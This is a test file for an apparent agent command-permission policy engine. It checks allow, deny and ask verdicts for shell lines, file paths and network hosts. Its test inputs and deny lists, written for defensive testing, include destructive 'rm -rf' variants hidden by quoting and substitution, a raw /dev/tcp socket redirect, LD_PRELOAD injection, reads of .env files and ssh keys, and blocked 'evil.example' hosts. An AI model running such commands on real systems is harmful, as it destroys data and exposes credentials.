import { describe, expect, test } from "vitest";
import { compilePolicy } from "../src/index.ts";
import { call, effectOf, run, verdictOf } from "./calls.ts";
import { policyOf, type RuleData } from "./toml.ts";

const allow = (command: string | readonly string[], more: RuleData = {}): RuleData => ({ action: "allow", command, ...more });
const deny = (command: string | readonly string[], more: RuleData = {}): RuleData => ({ action: "deny", command, ...more });
const rules = [allow(["git *", "ls *", "cat *", "echo *"]), deny("rm -rf *"), { action: "ask_user", command: "npm publish *" }];

describe("a walk through folders", () => {
  const kept = [
    allow(["grep *", "rg *"]),
    { action: "deny", paths: ["**/id_rsa", "**/.env", "**/secrets.{json,yaml}", "**/*.pem", "**/.env.*", "**/.aws/**"] } as const,
  ];

  test.each([
    "grep -r x / --include=id_rsa",
    "grep -rh . --include id_rs? .",
    "grep -r --include='*_rsa' x .",
    "grep -r --include=*_rsa x .",
    "grep -r --include='*.env' x .",
    "grep -r --include='.e*' x .",
    "grep -r --include='.env*' x .",
    "grep -r --include='.env.local' x .",
    "grep -r --include='secrets.*' x .",
    "grep -r --include='*.ts' --include='*.pem' x .",
    "grep -r --include='ID_RSA' x .",
    "rg x -g id_rsa",
    "rg x -g 'deploy/**/id_rsa' /",
    "rg x --iglob '{a,id_}rsa'",
  ])("that is for the files of a deny is asked about: %s", (line) => {
    expect(verdictOf(kept, run(line))).toBe("ask_user unknown_path");
  });

  test.each([
    "grep -r x . --include='*.ts'",
    "grep -r x . --include='*.json'",
    "grep -r x . --include='test*.ts'",
    "grep -r x . --include='*'",
    "grep -rn needle src",
    "grep -r x . --exclude=id_rsa",
    "rg x -g '!id_rsa'",
    "rg x -g '*.{ts,tsx}'",
    "rg x -g 'src/**'",
    "grep x src/a.ts --include=id_rsa",
  ])("that is for others is allowed: %s", (line) => {
    expect(verdictOf(kept, run(line))).toBe("allow rule_allowed r0");
  });

  const inside = [allow(["cp *", "ls *", "grep *", "rg *", "tree *"], { paths: "/w/**" })];
  test.each(["cp -rL a b", "cp -r --dereference a b", "ls -RL a", "grep -R x a", "rg --follow x a", "tree -l a"])(
    "that goes where links lead is no place that an allow names: %s",
    (line) => {
      expect(effectOf(inside, run(line))).not.toBe("allow");
      expect(effectOf([allow(["cp *", "ls *", "grep *", "rg *", "tree *"])], run(line))).toBe("allow");
    },
  );
  test.each(["cp -r a b", "cp -L a b", "ls -R a", "ls -lL a", "grep -r x a", "rg x a", "tree a"])("that stays below is: %s", (line) => {
    expect(effectOf(inside, run(line))).toBe("allow");
  });
});

describe("a line that brings links into the tree", () => {
  const inside = [
    allow(["git *", "cat *", "echo *", "tee *", "npm test"], { paths: "/w/**" }),
    { action: "deny", paths: ["**/.env", "/etc/**"] } as const,
  ];
  test.each([
    "git switch other && cat notes",
    "git stash pop; cat n* && cat /w/notes",
    "git pull && cat a | tee link/file",
    "bash -c 'git merge other; cat notes'",
    "git -c alias.x=pull x; cat notes",
  ])("%s", (line) => {
    expect(effectOf(inside, run(line))).not.toBe("allow");
  });
  test.each(["git switch other && cat notes", "git pull && cat a | tee link/file"])("that no rule about files is about: %s", (line) => {
    expect(effectOf([allow(["git *", "cat *", "tee *"])], run(line))).toBe("allow");
  });
  test.each([
    "git pull && npm test",
    "git switch main && git status",
    "git checkout -b x && git add -A && git commit -m y",
    "git checkout -b x && git add src/a && git commit -m y && cat src/a",
    "cat a && git add a && git pull --rebase && git log main..x && git push",
  ])("and uses none: %s", (line) => {
    const kept = [allow(["git *", "cat *", "npm test"]), { action: "deny", paths: ["**/.env", "/etc/**"] } as const];
    expect(verdictOf(kept, run(line))).toBe("allow rule_allowed r0");
  });
  test("is denied what its words say", () => {
    expect(verdictOf(inside, run("git pull && cat .env"))).toBe("deny rule_denied r1");
  });
});

describe("a line is what its commands come to", () => {
  test.each([
    ["git status && ls -la", "allow rule_allowed r0"],
    ["git status; make", "abstain"],
    ["make; git status", "abstain"],
    ["git status; npm publish; make", "ask_user rule_asked r2"],
    ["npm publish; rm -rf x", "deny rule_denied r1"],
    ["rm -rf x; npm publish", "deny rule_denied r1"],
    ["git log | cat", "allow rule_allowed r0"],
    ["(ls; { cat a; })", "allow rule_allowed r0"],
    ['for f in a b; do cat "src/$f"; done', "allow rule_allowed r0"],
    ["if ls; then rm -rf x; fi", "deny rule_denied r1"],
    ["echo $(rm -rf x)", "deny rule_denied r1"],
    ['echo "`rm -rf x`"', "deny rule_denied r1"],
    ["echo '$(rm -rf x)'", "allow rule_allowed r0"],
    ["echo $(git log)", "abstain"],
    ["bash -c 'rm -rf x'", "deny rule_denied r1"],
    ["ssh host 'rm -rf x'", "deny rule_denied r1"],
    ["git status # rm -rf x", "allow rule_allowed r0"],
    ["git 'status' \"-s\"", "allow rule_allowed r0"],
    ["r\"\"m -r''f x", "deny rule_denied r1"],
    ["sudo git status", "abstain"],
  ])("%s: %s", (line, verdict) => expect(verdictOf(rules, run(line))).toBe(verdict));

  test("each command is decided by the tiers, and a final rule holds in each", () => {
    const tiers = [
      allow("git *", { priority: "user" }),
      deny("git push *"),
      { action: "ask_user", command: "git pull *", final: true },
      deny("make *", { priority: "admin" }),
    ];
    expect(verdictOf(tiers, run("git push; git status"))).toBe("allow rule_allowed r0");
    expect(verdictOf(tiers, run("git push; git pull"))).toBe("ask_user rule_asked r2");
    expect(verdictOf(tiers, run("git push; make"))).toBe("deny rule_denied r3");
  });
  test("the rule that is named is the first by name among the strictest", () => {
    const two = [deny("rm *", { name: "b" }), deny("dd *", { name: "a" })];
    expect(verdictOf(two, run("rm x; dd if=y"))).toBe("deny rule_denied a");
    expect(verdictOf(two, run("dd if=y; rm x"))).toBe("deny rule_denied a");
  });
  test("a rule in shadow is told once, whatever number of commands it matches", () => {
    const pool = compilePolicy([policyOf([{ name: "s", action: "deny", command: "ls *", shadow: true }])]);
    expect(pool.evaluate(run("ls; ls -l; ls"))).toMatchObject([{ effect: "deny", shadow: true, rule: { name: "s" } }]);
  });
  test("a rule about the tool alone is about every command, and about a line without any", () => {
    expect(effectOf([{ action: "deny", tool: "bash" }], call("bash", { command: "" }))).toBe("deny");
    expect(effectOf([{ action: "allow", tool: "bash" }], call("bash", { command: "ls; pwd" }))).toBe("allow");
    expect(effectOf([{ action: "allow", tool: "bash" }], call("bash", { command: " " }))).toBe("ask_user");
    expect(effectOf([{ action: "allow", tool: "bash" }], call("bash", { command: "# ls" }))).toBe("allow");
    expect(effectOf([{ action: "allow", command: "ls" }], call("bash", { command: "# ls" }))).toBe("abstain");
  });
  test("thousands of commands are answered", () => {
    const line = `${"echo a;".repeat(1500)}rm -rf x`;
    expect(effectOf(rules, run(line))).toBe("deny");
  });
});

describe("what an allow does not cover", () => {
  test.each([
    "ls > out",
    "ls >> out",
    "> out ls",
    "{ ls; } > out",
    "ls &> out",
    "ls > /dev/tcp/1.2.3.4/80",
    "PATH=. ls",
    "LD_PRELOAD=x ls",
    "cat $X",
    'cat "$X"',
    "cat *",
    "cat src/$X",
    "git $X",
    'git "a$X" -- $Y',
  ])("%s", (line) => expect(effectOf(rules, run(line))).not.toBe("allow"));
  test.each([
    "ls 2>&1",
    "ls > /dev/null",
    "ls 2> /dev/null | cat",
    "cat < src/a",
    "cat src/*.ts",
    'cat "src/$X"',
    'cat -- "$X"',
    "cat <<E\nhi\nE",
  ])("but %j", (line) => expect(effectOf(rules, run(line))).toBe("allow"));
  test("a word that is not known is covered by a wildcard word alone", () => {
    expect(effectOf([allow("frob * main")], run('frob "x$Y" main'))).toBe("allow");
    expect(effectOf([allow("frob x* main")], run('frob "x$Y" main'))).toBe("abstain");
    expect(effectOf([{ action: "allow", command_regex: "cat .*" }], run('cat "src/$X"'))).toBe("abstain");
  });
});

describe("a deny that may match", () => {
  test.each([
    ["rm $FLAGS x", "ask_user unknown_command"],
    ['rm -r "$X" y', "ask_user unknown_command"],
    ["rm *", "ask_user unknown_command"],
    ['rm -f "src/$X"', "abstain"],
    ["rm -f src/*.ts", "abstain"],
    ['rm -f -- "$X"', "abstain"],
    ["rm -rf $X", "deny rule_denied r1"],
    ["rm -r${X}f y", "deny rule_denied r1"],
    ["$X -rf y", "ask_user unknown_command"],
    ["npm publish $X", "ask_user rule_asked r2"],
    ["npm $X", "ask_user unknown_command"],
    ["npm test $X", "abstain"],
    ['npm --prefix "$D" publish', "ask_user rule_asked r2"],
  ])("%s: %s", (line, verdict) => {
    expect(verdictOf(rules, run(line))).toBe(verdict);
    if (verdict.includes("unknown")) expect(verdictOf(rules, run(line), { default: "deny" })).toBe("deny unknown_command");
  });
  test("counts only where the rule would decide", () => {
    const above = allow("rm *", { priority: "admin" });
    expect(effectOf([above, deny("rm -rf *")], run('rm "a$X"'))).toBe("allow");
    expect(effectOf([above, deny("rm a*")], run('rm "a$X"'))).toBe("allow");
    expect(effectOf([above, deny("rm ab", { final: true })], run('rm "a$X"'))).toBe("ask_user");
    expect(effectOf([above, deny("rm ab", { final: true, shadow: true })], run('rm "a$X"'))).toBe("allow");
    expect(effectOf([above, deny("rm b", { final: true })], run('rm "a$X"'))).toBe("allow");
  });
  test("of a regular expression, as far as its beginning and its end are plain", () => {
    const regex: RuleData = { action: "deny", command_regex: "(git|hg) push( .*)?" };
    expect(verdictOf([regex], run("git $X"))).toBe("ask_user unknown_command");
    expect(verdictOf([regex], run("make $X"))).toBe("abstain");
    expect(verdictOf([{ action: "deny", command_regex: "git push .*main" }], run('git push "$X" other'))).toBe("abstain");
    expect(verdictOf([{ action: "deny", command_regex: "git push .*main" }], run('git push "$X" main'))).toBe("ask_user unknown_command");
  });
});

describe("files of a line", () => {
  const files: readonly RuleData[] = [
    allow(["cat *", "ls *", "cp *", "cd *", "grep *"], { paths: "/w/**" }),
    { action: "deny", paths: ["**/.env", "/home/dev/.ssh/**"] },
    { action: "deny", paths: { write: "/w/.git/**" } },
  ];
  test.each([
    ["cat src/a src/b", "allow"],
    ["cat src/*.ts", "allow"],
    ["cat < src/a", "allow"],
    ["cat /etc/hosts", "abstain"],
    ["cat < /etc/hosts", "abstain"],
    ["cat .env", "deny"],
    ["cat < .env", "deny"],
    ["echo x > .env", "deny"],
    ["make > .git/hooks/x", "deny"],
    ["cat .git/config", "allow"],
    ["cd src && cat ../.env", "deny"],
    ["cd /home/dev/.ssh; cat id", "deny"],
    ["cp src/a src/b", "allow"],
    ["cp src/a ../b", "abstain"],
    ["cat .e*", "ask_user"],
    ["cat /home/dev/.s*/id", "ask_user"],
    ["cat $X", "ask_user"],
    ["grep -r x /home/dev", "ask_user"],
    ["grep -r x src", "allow"],
    ["cat src/a; cat /etc/hosts", "abstain"],
    ["ssh host cat /srv/.env", "ask_user"],
    ["docker run -v .:/x alpine cat /x/.env", "ask_user"],
    ["ssh host cat /w/a", "abstain"],
  ])("%s: %s", (line, effect) => expect(effectOf(files, run(line))).toBe(effect));

  test("an allow about files names no program", () => {
    const open: readonly RuleData[] = [{ action: "allow", paths: "**" }];
    expect(effectOf(open, run("cat src/a"))).toBe("allow");
    for (const line of ["./src/a", "frobnicate src/a", "curl https://a.example", "make", "sudo cat src/a"]) {
      expect([line, effectOf(open, run(line))]).toEqual([line, "abstain"]);
    }
  });
  test("the paths of all commands are given to be resolved", () => {
    const pool = compilePolicy([policyOf(files.map((rule, at) => ({ name: `r${at}`, ...rule })))]);
    expect(pool.pathsToResolve(run("cat src/a; cat < src/b; ssh host cat c")).toSorted()).toEqual(["src/a", "src/b"]);
  });
});

describe("hosts of a line", () => {
  const hosts: readonly RuleData[] = [
    allow("curl *", { network: ["api.example.com", "*.internal"] }),
    { action: "deny", network: ["*.evil.example", "bücher.example"] },
  ];
  test.each([
    ["curl https://api.example.com/x", "allow"],
    ["curl https://a.internal https://api.example.com", "allow"],
    ["curl https://other.example", "abstain"],
    ["curl https://api.example.com https://other.example", "abstain"],
    ["curl https://a.evil.example", "deny"],
    ["curl https://A.EVIL.example:8080/x", "deny"],
    ["wget https://a.evil.example", "deny"],
    ["curl https://xn--bcher-kva.example", "deny"],
    ["curl https://bücher.example/", "deny"],
    ["curl $URL", "ask_user"],
    ['curl "https://$H/x"', "ask_user"],
    ["git clone https://a.evil.example/x", "deny"],
    ["echo a.evil.example", "abstain"],
  ])("%s: %s", (line, effect) => expect(effectOf(hosts, run(line))).toBe(effect));
  test("URLs of network tools are compared the same way", () => {
    const fetch = (url: string): string => effectOf(hosts, call("web_fetch", { url }));
    expect([fetch("https://bücher.example/"), fetch("https://xn--bcher-kva.example/"), fetch("https://x.example/")]).toEqual([
      "deny",
      "deny",
      "abstain",
    ]);
  });
});

describe("explain", () => {
  const pool = compilePolicy([
    policyOf([
      { name: "git", action: "allow", command: "git *" },
      { name: "rm", action: "deny", command: "rm -rf *" },
    ]),
  ]);
  test("names the command that matched, or came closest", () => {
    expect(pool.explain(run("ls; /usr/bin/git  'log'"))).toMatchObject([
      { name: "git", matched: true, command: "git log" },
      { name: "rm", matched: false, failed: "command" },
    ]);
  });
  test("says where a rule may match", () => {
    const [, rm] = pool.explain(run("ls; rm $X"));
    expect(rm).toMatchObject({ matched: false, failed: "command", may_match: true, command: "rm …" });
  });
  test("says nothing of commands for other tools", () => {
    expect(pool.explain(call("read_file", { path: "a" }))[0]).not.toHaveProperty("command");
  });
});
